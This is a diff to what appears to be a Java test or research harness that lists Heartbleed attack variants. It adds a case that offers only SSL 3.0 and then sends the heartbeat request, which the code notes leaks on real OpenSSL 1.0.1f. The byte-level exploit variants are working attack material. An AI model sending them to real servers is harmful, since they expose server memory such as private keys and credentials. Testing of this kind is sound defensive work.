@@ -148,6 +148,13 @@ record Attack(String name, String does, byte[] opening, List<byte[]> pieces, Dur
           concat(clientHello(version), heartbleed(CLAIM)), List.of(), Duration.ZERO, OnRealOpenSsl.LEAKS));
     }
 
+    int ssl3 = ProtocolVersion.SSL3_0.code();
+    all.add(new Attack("sslv3_session_then_heartbleed",
+        "a ClientHello offering only SSL 3.0 (heartbeat extension included), then the classic request in an SSL 3.0"
+            + " record: 1.0.1f answers heartbeats whatever the version",
+        record(HANDSHAKE, ssl3, AttackBytes.clientHelloMessage(ProtocolVersion.SSL3_0)),
+        List.of(record(HEARTBEAT, ssl3, heartbleedMessage(CLAIM))), Duration.ZERO, OnRealOpenSsl.LEAKS));
+
     all.add(afterHello("zero_length_records_then_heartbleed",
         "empty application_data, handshake and alert records, then the classic request", OnRealOpenSsl.LEAKS,
         concat(record(APPLICATION_DATA, new byte[0]), record(HANDSHAKE, new byte[0]), record(ALERT, new byte[0]),
